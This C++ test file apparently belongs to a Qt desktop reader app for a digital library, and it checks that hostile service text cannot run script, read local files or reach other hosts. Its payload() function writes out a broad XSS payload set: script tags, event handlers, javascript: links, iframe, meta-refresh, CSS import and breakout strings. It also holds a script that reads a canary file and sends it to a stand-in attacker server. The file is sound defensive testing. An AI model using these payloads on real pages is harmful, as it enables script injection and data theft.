// Hostile text from the service in every field a page shows, in every page
// family: no script of it runs, nothing outside the data folder is read and
// no other host is reached; plain formatting still shows.
#include <QLoggingCategory>
#include <QTcpServer>
#include <QTcpSocket>

#include "ShellFixture.h"

using namespace sumberlaras;
using namespace sumberlaras::testing;
using namespace sumberlaras::bridge;

namespace {

// The `app` calls the pages sent, as the dispatcher logs them.
std::vector<std::string>* gMessages = nullptr;
QtMessageHandler gPrevious = nullptr;

void recordBridgeMessage(QtMsgType type, const QMessageLogContext& context, const QString& text) {
    if (gMessages && context.category && std::string_view(context.category) == "sumberlaras.bridge")
        gMessages->push_back(text.toStdString());
    if (gPrevious && type != QtInfoMsg)
        gPrevious(type, context, text);
}

std::string replaced(std::string text, const std::string& from, const std::string& to) {
    for (size_t at = text.find(from); at != std::string::npos; at = text.find(from, at + to.size()))
        text.replace(at, from.size(), to);
    return text;
}

class HostileText : public ShellFixture {
protected:
    QTcpServer attacker; // stands in for another host
    int connections = 0;
    std::string canaryPath;
    const std::string canary = "KENARI-" + std::to_string(::getpid()) + "-RAHASIA";
    std::vector<std::string> messages;

    void SetUp() override {
        ASSERT_TRUE(attacker.listen(QHostAddress::LocalHost));
        QObject::connect(&attacker, &QTcpServer::newConnection, [this] {
            while (QTcpSocket* s = attacker.nextPendingConnection()) {
                ++connections;
                s->close();
                s->deleteLater();
            }
        });
        canaryPath = (root / "rahasia.txt").string();
        std::ofstream(canaryPath) << canary;
        gMessages = &messages;
        QLoggingCategory::setFilterRules(QStringLiteral("sumberlaras.bridge.info=true"));
        gPrevious = qInstallMessageHandler(recordBridgeMessage);
    }
    void TearDown() override {
        qInstallMessageHandler(gPrevious);
        QLoggingCategory::setFilterRules({});
        gMessages = nullptr;
    }

    // Every kind of attack at once: scripts, handlers, addresses, embedding,
    // redirects, style sheets and breaking out of the element or attribute.
    std::string payload() const {
        const std::string other = "http://127.0.0.1:" + std::to_string(attacker.serverPort());
        const std::string steal =
            "var r=new XMLHttpRequest();r.open('GET','" + bridge::fileUrl(canaryPath) +
            "',false);r.send();document.title=r.responseText;new Image().src='" + other +
            "/x?'+r.responseText;app.logout();";
        const std::string text =
            "<script>STEAL</script>"
            "<img src=x onerror=\"STEAL\">"
            "<a href=\"javascript:app.logout()\" id=\"jslink\">j</a>"
            "<svg onload=\"STEAL\"><image href=\"OTHER/svg.png\"/></svg>"
            "<iframe srcdoc=\"<script>parent.app.logout()</script>\" src=\"OTHER/frame\"></iframe>"
            "<meta http-equiv=\"refresh\" content=\"0;url=OTHER/refresh\">"
            "<base href=\"OTHER/\"><img src=\"base.png\">"
            "<div style=\"background:url(OTHER/css.png)\">css</div>"
            "<style>@import 'OTHER/import.css'; body{background:url(OTHER/bg.png)}</style>"
            "<object data=\"OTHER/obj\"></object><embed src=\"OTHER/embed\">"
            "<form action=\"OTHER/form\"><input autofocus onfocus=\"STEAL\"></form>"
            "</h3></h4></span></div></td></table><script>STEAL</script>"
            "\"><img src=x onerror=\"STEAL\"><x a=\"\"'><img src=x onerror=\"STEAL\">"
            "'); app.logout(); ('";
        return replaced(replaced(text, "STEAL", steal), "OTHER", other);
    }

    std::string otherAddress() const {
        return "http://127.0.0.1:" + std::to_string(attacker.serverPort());
    }

    // Puts `value` into every field that a page shows, in every answer.
    void rewriteEverything(const std::string& value) {
        Standin::Json text;
        for (const char* member :
             {"judul", "penulis", "penerbit", "isbn", "kategori", "tahun_terbit", "sinopsis",
              "hal_txt", "halaman", "judul_section", "keterangan_intro", "nama_kategori",
              "nama_sub_kategori", "nama_departemen", "stok", "qty", "total_rows"})
            text[member] = value;
        for (const char* path :
             {"/api/wl/listHomepage", "/api/wl/listHomepageDetail", "/api/wl/menu",
              "/api/wl/listContentCategory", "/api/wl/listTopRead", "/api/wl/detailKonten",
              "/api/wl/searching", "/api/wl/searchingKalimat"})
            standin.rewrite(path, text);
        const std::string colour = "red;} body{background:url(" + otherAddress() + "/c.png)} x{";
        standin.rewrite("/api/wl/mitra", {{"nama", value},
                                          {"keterangan_intro", value},
                                          {"foto_intro", otherAddress() + "/intro.png"},
                                          {"warna_header", colour},
                                          {"warna_button_login", colour},
                                          {"warna_hover_button_login", colour},
                                          {"warna_hover_baca", colour}});
        standin.rewrite("/api/wl/detailKonten",
                        Standin::Json{{"cover_file", otherAddress() + "/c.jpg"},
                                      {"sinopsis", value},
                                      {"judul", value},
                                      {"penulis", value},
                                      {"penerbit", value},
                                      {"isbn", value},
                                      {"kategori", value},
                                      {"tahun_terbit", value},
                                      {"stok", value},
                                      {"qty", value}});
    }

    // Lets handlers, frames and refreshes of the page shown have their go.
    void letThePageAct(ViewId id) {
        spinUntil([] { return false; }, std::chrono::milliseconds(800));
        const std::string html =
            js(id, "document.documentElement.outerHTML + document.title").toString().toStdString();
        EXPECT_EQ(html.find(canary), std::string::npos) << pageOf(id);
    }

    void expectNothingEscaped(const char* where) {
        SCOPED_TRACE(where);
        EXPECT_EQ(connections, 0);
        for (const std::string& m : messages)
            EXPECT_NE(m.rfind("logout(", 0), 0u) << m;
        EXPECT_EQ(standin.log().dump().find(canary), std::string::npos);
        EXPECT_TRUE(dialogs.texts().empty());
    }

    // The `onClick` of the first element whose handler starts with `call`.
    QString firstCall(ViewId id, const std::string& call) {
        return js(id, QString::fromStdString(
                          "(function(){var a=document.querySelector(\"[onClick^='" + call +
                          "']\");return a ? a.getAttribute('onClick') : ''})()"))
            .toString();
    }
};

TEST_F(HostileText, NoPayloadRunsReadsOrReachesAnotherHostInAnyPage) {
    rewriteEverything(payload());
    startAtLogin();
    letThePageAct(Chromium1);
    expectNothingEscaped("login");

    signInAndWaitForHome();
    letThePageAct(Chromium1);
    expectNothingEscaped("home");

    const QString section = firstCall(Chromium1, "app.homeDetail");
    ASSERT_FALSE(section.isEmpty());
    js(Chromium1, section);
    ASSERT_TRUE(waitForPage(Chromium2, "index_detail.html"));
    letThePageAct(Chromium2);
    expectNothingEscaped("section");

    js(Chromium1, "app.loadKategori()");
    ASSERT_TRUE(waitForPage(Chromium4, "category.html"));
    letThePageAct(Chromium4);
    expectNothingEscaped("category menu");
    const QString category = firstCall(Chromium4, "app.kategoriKonten");
    ASSERT_FALSE(category.isEmpty());
    js(Chromium4, category);
    ASSERT_TRUE(waitForPage(Chromium5, "category_detail.html"));
    letThePageAct(Chromium5);
    expectNothingEscaped("category content");

    js(Chromium1, "app.topChart()");
    ASSERT_TRUE(waitForPage(Chromium6, "topChart.html"));
    letThePageAct(Chromium6);
    expectNothingEscaped("chart");
    const QString book = firstCall(Chromium6, "app.detailFromChart");
    ASSERT_FALSE(book.isEmpty());
    js(Chromium6, book);
    ASSERT_TRUE(waitForPage(Chromium3, "detail.html"));
    letThePageAct(Chromium3);
    expectNothingEscaped("detail");
    js(Chromium3, "var l = document.getElementById('jslink'); if (l) l.click();");
    letThePageAct(Chromium3);

    // The keyword a page sends back is shown in the results too.
    js(Chromium1, "app.searching('bumi', 'Semua')");
    ASSERT_TRUE(waitForPage(Chromium7, "search_result.html"));
    letThePageAct(Chromium7);
    expectNothingEscaped("search");
    js(Chromium1, "app.searching('Jantung Pengetahuan', 'Kalimat')");
    ASSERT_TRUE(waitForPage(Chromium7, "search_kalimat_result.html"));
    letThePageAct(Chromium7);
    expectNothingEscaped("sentence search");
}

TEST_F(HostileText, PlainFormattingShowsAndEncodedMarkupStaysText) {
    standin.rewrite("/api/wl/detailKonten",
                    {{"sinopsis", "<p>Satu <b>tebal</b><br>dua <i>miring</i></p>"},
                     {"judul", "&lt;b&gt;bukan tebal&lt;/b&gt;"}});
    startAtLogin();
    signInAndWaitForHome();
    const QString book = firstCall(Chromium1, "app.detail");
    ASSERT_FALSE(book.isEmpty());
    js(Chromium1, book);
    ASSERT_TRUE(waitForPage(Chromium3, "detail.html"));
    EXPECT_EQ(js(Chromium3, "document.querySelector('.desc-detail p b').textContent").toString(),
              "tebal");
    EXPECT_EQ(js(Chromium3, "document.querySelectorAll('.desc-detail br').length").toInt(), 1);
    EXPECT_EQ(js(Chromium3, "document.querySelector('.breadcrumb .active').textContent").toString(),
              "<b>bukan tebal</b>");
    EXPECT_EQ(js(Chromium3, "document.querySelectorAll('.breadcrumb b').length").toInt(), 0);
}

TEST_F(HostileText, APageCannotReadFilesOrReachOtherHostsByItself) {
    // Even a script that got into a data-folder page is held to the folder and
    // the service's host.
    startAtLogin();
    const std::string other = otherAddress();
    ASSERT_TRUE(showOwnPage(
        "probe.html",
        "<html><body><script>"
        "var read = 'none';"
        "try { var r = new XMLHttpRequest(); r.open('GET', '" +
            bridge::fileUrl(canaryPath) +
            "', false); r.send(); read = r.responseText; } catch (e) { read = 'refused'; }"
            "document.title = read;"
            "new Image().src = '" +
            other +
            "/img.png';"
            "fetch('" +
            other +
            "/fetch').catch(function () {});"
            "</script>"
            "<link rel=stylesheet href='" +
            other + "/sheet.css'></body></html>"));
    spinUntil([] { return false; }, std::chrono::milliseconds(800));
    EXPECT_NE(js(Chromium2, "document.title").toString().toStdString(), canary);
    EXPECT_EQ(connections, 0);
    // Its own folder stays readable: the pages' style sheets and scripts live there.
    EXPECT_TRUE(js(Chromium2, "(function(){var r=new XMLHttpRequest();"
                              "r.open('GET','loading.html',false);r.send();"
                              "return r.responseText.length > 0;})()")
                    .toBool());
}

} // namespace
